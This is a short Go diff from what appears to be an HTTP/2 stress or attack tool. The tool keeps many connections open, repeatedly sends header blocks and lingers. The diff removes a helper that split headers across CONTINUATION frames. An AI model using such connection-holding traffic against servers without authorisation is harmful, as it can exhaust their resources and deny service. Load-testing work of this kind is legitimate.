@@ -5,7 +5,6 @@ import (
 	"bytes"
 	"context"
 	"net/http"
-	"slices"
 	"strconv"
 	"strings"
 	"sync"
@@ -142,31 +141,17 @@ func kept(ctx context.Context, a *attack, path string, end bool) error {
 		if err := c.more(); err != nil {
 			return err
 		}
-		if err := c.openLong(c.head(path, distinct(k)...), end); err != nil {
+		if _, err := c.open(c.head(path, distinct(k)...), end); err != nil {
 			return c.lost(err)
 		}
 		if k%everySo == 0 {
 			if err := c.flush(); err != nil {
 				return c.lost(err)
 			}
-			time.Sleep(glance)
+			pause(ctx, glance)
 		}
 	}
 	return c.linger()
-}
-
-// openLong is open for a head that may take several frames.
-func (c *conn) openLong(block []byte, end bool) error {
-	pieces := slices.Collect(slices.Chunk(block, maxFrame))
-	id := c.next
-	c.next += 2
-	err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: pieces[0], EndHeaders: len(pieces) == 1, EndStream: end})
-	for n, p := range pieces[1:] {
-		if err == nil {
-			err = c.WriteContinuation(id, n == len(pieces)-2, p)
-		}
-	}
-	return err
 }
 
 func keptHandshakes(ctx context.Context, a *attack) error { return kept(ctx, a, handshakePath, false) }
